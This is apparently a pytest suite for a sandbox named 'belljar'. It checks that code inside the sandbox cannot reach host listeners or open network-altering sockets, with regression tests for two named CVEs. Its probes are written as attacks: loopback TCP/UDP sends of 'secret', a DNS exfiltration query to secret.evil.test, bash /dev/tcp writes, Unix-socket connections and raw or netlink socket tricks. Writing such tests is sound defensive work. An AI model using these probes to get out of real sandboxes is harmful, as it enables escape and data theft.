"""Attacks on the network: whatever the code sends, the listeners of the test hear nothing of it.

Only loopback and names that the test made are targets. The verdict is the listener's: in a jar, sending to 127.0.0.1
"works", it reaches the jar's own loopback.
"""

from __future__ import annotations

import os
import secrets
import selectors
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import NamedTuple

import pytest
from attack_control import control, own_tmp, python_control
from attack_probe import escaped, held, python_probe, refused_by_the_jar

from belljar import Sandbox

OpenJar = Callable[..., Sandbox]


class Ears:
    """Listens on every kind of socket that a test may open, and remembers what arrived."""

    def __init__(self, directory: Path) -> None:
        self.word = f"belljar{secrets.token_hex(6)}"
        self.path = str(directory / "listener.sock")
        self._stack = ExitStack()
        self._loop = self._stack.enter_context(selectors.DefaultSelector())
        self.ports = {
            "tcp4": self._inet(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1"),
            "udp4": self._inet(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1"),
            "tcp6": self._inet(socket.AF_INET6, socket.SOCK_STREAM, "::1"),
            "udp6": self._inet(socket.AF_INET6, socket.SOCK_DGRAM, "::1"),
        }
        for address in (f"\0{self.word}", self.path):
            self._listen(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), address)
        os.chmod(self.path, 0o777)

    def _inet(self, family: int, kind: int, host: str) -> int:
        end = socket.socket(family, kind)
        try:
            self._listen(end, (host, 0))
        except OSError:
            return 0  # no IPv6 here
        return int(end.getsockname()[1])

    def _listen(self, end: socket.socket, address: object) -> None:
        self._stack.enter_context(end)
        end.bind(address)  # type: ignore[arg-type]
        if end.type == socket.SOCK_STREAM:
            end.listen()
        self._loop.register(end, selectors.EVENT_READ)

    def heard(self, seconds: float) -> bool:
        """Whether anything arrives within this time."""
        deadline = time.monotonic() + seconds
        heard = False
        while not heard and (left := deadline - time.monotonic()) > 0:
            for key, _events in self._loop.select(left):
                heard = True
                end = key.fileobj
                assert isinstance(end, socket.socket)
                end.accept()[0].close() if end.type == socket.SOCK_STREAM else end.recv(4096)
        return heard

    def close(self) -> None:
        self._stack.close()


@pytest.fixture
def ears(arena: Path) -> Iterator[Ears]:
    """Listeners on the host."""
    listeners = Ears(arena)
    yield listeners
    listeners.close()


def _tcp(host: str, port: str) -> str:
    return f"""
    def attack():
        end = socket.create_connection(({host!r}, {port}), timeout=2)
        end.send(b"secret")
        return "connected"
    """


def _udp(family: str, host: str, port: str, data: str = "b'secret'") -> str:
    return f"""
    def attack():
        end = socket.socket(socket.{family}, socket.SOCK_DGRAM)
        end.sendto({data}, ({host!r}, {port}))
        return "sent"
    """


_DNS = "b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\1\\0\\1'"


class Way(NamedTuple):
    """A way out: a Python probe with the listener's `{ports}`, `{word}` and `{path}`."""

    name: str
    body: str


WAYS = (
    Way("TCP", _tcp("127.0.0.1", "{tcp4}")),
    Way("TCP, another loopback form", _tcp("2130706433", "{tcp4}")),
    Way("TCP to 0.0.0.0", _tcp("0.0.0.0", "{tcp4}")),
    Way("TCP over IPv6", _tcp("::1", "{tcp6}")),
    Way("TCP over IPv4 in IPv6", _tcp("::ffff:127.0.0.1", "{tcp4}")),
    Way("UDP", _udp("AF_INET", "127.0.0.1", "{udp4}")),
    Way("UDP over IPv6", _udp("AF_INET6", "::1", "{udp6}")),
    Way("a DNS query for secret.evil.test", _udp("AF_INET", "127.0.0.1", "{udp4}", _DNS)),
    Way(
        "an abstract Unix socket",
        "def attack(): socket.socket(socket.AF_UNIX).connect('\\0{word}'); return 'connected'",
    ),
    Way(
        "a Unix socket by its path (docker.sock, ssh-agent, D-Bus)",
        "def attack(): socket.socket(socket.AF_UNIX).connect('{path}'); return 'connected'",
    ),
)


def fill(body: str, ears: Ears) -> str:
    for name, value in {**ears.ports, "word": ears.word, "path": ears.path}.items():
        body = body.replace(f"{{{name}}}", str(value))
    return python_probe(body)


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.name)
def test_nothing_leaves(open_jar: OpenJar, ears: Ears, way: Way) -> None:
    """The host's listeners hear nothing from a jar, and do hear the same program in a control."""
    if "6}" in way.body and not ears.ports["tcp6"]:
        pytest.skip("this host has no IPv6 loopback")
    code = fill(way.body, ears)
    jar = open_jar()
    result = jar.run(code)
    assert "HELD" in result.stdout or "UDP" in way.name or "DNS" in way.name, result
    assert not ears.heard(0.1)
    assert escaped(python_control(code, network=True))
    assert ears.heard(5)


def test_bash_has_no_way_out_either(jar: Sandbox, ears: Ears) -> None:
    """`/dev/tcp` and `/dev/udp` of bash reach no listener."""
    udp, tcp = ears.ports["udp4"], ears.ports["tcp4"]
    script = f"echo x >/dev/udp/127.0.0.1/{udp}; echo x >/dev/tcp/127.0.0.1/{tcp} && echo through"
    assert "through" not in jar.run(script, language="bash").stdout
    assert not ears.heard(0.1)
    assert "through" in control(["bash", "-c", script], network=True)
    assert ears.heard(5)


@pytest.mark.parametrize("enabled", [True, False])
def test_empty_allowlist_allows_nothing(open_jar: OpenJar, ears: Ears, enabled: bool) -> None:
    """CVE-2025-66479: `allowlist: []` is no "allow all", with the network on or off."""
    jar = open_jar({"net": {"enabled": enabled, "allowlist": []}})
    code = fill(WAYS[0].body, ears)
    result = jar.run(code)
    assert result.outcome == "refused" or held(result)
    assert not ears.heard(0.1)
    assert escaped(python_control(code, network=True))
    assert ears.heard(5)


LOOK_UP = """
def attack():
    servers = [line for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
    try:
        socket.getaddrinfo("secret.evil.test", 80)
    except OSError:
        if not servers:
            raise
    return servers
"""
SERVER = """
import fcntl, socket, struct, threading
fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sH22x", b"lo", 1))
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
def serve():
    while True:
        data, sender = server.recvfrom(512)
        print("asked:", data[12:].split(b"\\0")[0], flush=True)
        server.sendto(data[:2] + b"\\x81\\x83" + data[4:], sender)  # there is no such name
threading.Thread(target=serve, daemon=True).start()
"""


def test_name_is_not_looked_up(jar: Sandbox) -> None:
    """CVE-2025-55284: there is no name server in the jar's settings and no route to one: a name carries nothing.

    The control has a name server of its own, which is asked.
    """
    code = python_probe(LOOK_UP)
    assert held(jar.run(code))
    setup = f"{own_tmp()}; echo nameserver 127.0.0.1 >own; mount --bind own /etc/resolv.conf"
    said = python_control(SERVER + code, root=True, setup=setup)
    assert escaped(said), said
    assert "asked: b'\\x06secret\\x04evil\\x04test'" in said


class Kind(NamedTuple):
    """A kind of socket, and what its control needs."""

    name: str
    body: str
    root: bool = True
    host_may_lack: bool = False
    """A kernel may not have it; then the control is that the jar's refusal is another than that kernel's."""


KINDS = (
    Kind("raw IPv4", "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"),
    Kind("raw IPv6", "socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)", host_may_lack=True),
    Kind("packet", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)"),
    Kind("vsock", "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)", host_may_lack=True),
    Kind("bluetooth", "socket.socket(31, socket.SOCK_RAW, 1)", host_may_lack=True),
    Kind("kernel cryptography", "socket.socket(38, socket.SOCK_SEQPACKET)", host_may_lack=True),
    Kind("key management", "socket.socket(15, socket.SOCK_RAW, 2)", host_may_lack=True),
    Kind("netlink: netfilter", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)"),
    Kind("netlink: kernel events", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15)"),
    Kind("netlink: sockets", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4)"),
    Kind("netlink: generic", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16)"),
    Kind("UDP lite", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)", host_may_lack=True),
    Kind("SCTP", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)", host_may_lack=True),
    Kind("multipath TCP", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)", host_may_lack=True),
    Kind(
        "ICMP without raw sockets",
        "(open('/proc/sys/net/ipv4/ping_group_range', 'w').write('0 0')"
        " if os.access('/proc/sys/net/ipv4/ping_group_range', os.W_OK) else None,"
        " socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))",
    ),
    Kind(
        "another address for the interface",
        "__import__('fcntl').ioctl(socket.socket(), 0x8916, struct.pack('16sH2x4s8x', b'lo', 2, b'\\n\\0\\0\\1'))",
    ),
    Kind(
        "a new interface",
        "__import__('fcntl').ioctl(os.open('/dev/net/tun', os.O_RDWR), 0x400454ca, struct.pack('16sH22x', b'tun7', 1))",
        host_may_lack=True,
    ),
)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_socket_around_the_network_is_refused(jar: Sandbox, kind: Kind) -> None:
    """Sockets around TCP and UDP, or that change the network, are refused; root of a control's namespace has them."""
    code = python_probe(f"def attack(): return {kind.body}")
    result = jar.run(code)
    assert held(result)
    said = python_control(code, root=kind.root)
    if kind.host_may_lack:
        refused_by_the_jar(result, said)
    else:
        assert escaped(said), said


def test_route_can_not_be_added(jar: Sandbox) -> None:
    """The netlink that a jar may open lists interfaces and changes nothing."""
    code = python_probe(
        """
        def attack():
            end = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
            # RTM_NEWLINK, request + acknowledge: set interface 1 up
            end.send(struct.pack("IHHII BxHiII", 32, 16, 5, 1, 0, 0, 0, 1, 1, 1))
            answer = end.recv(4096)
            number = -struct.unpack_from("i", answer, 16)[0]
            if number:
                raise OSError(number, os.strerror(number))
            return "the kernel obeyed"
        """
    )
    assert held(jar.run(code))
    assert escaped(python_control(code, root=True))


def test_socket_in_a_workspace_is_closed(open_jar: OpenJar, project: Path) -> None:
    """A Unix socket that lies in the workspace (an agent's, an editor's) is not reachable through the view of it."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(project / "agent.sock"))
        listener.listen()
        os.chmod(project / "agent.sock", 0o777)
        code = python_probe("def attack(): socket.socket(socket.AF_UNIX).connect('agent.sock'); return 'connected'")
        assert held(open_jar(workspace=project).run(code))
        assert escaped(python_control(code, cwd=str(project), network=True))
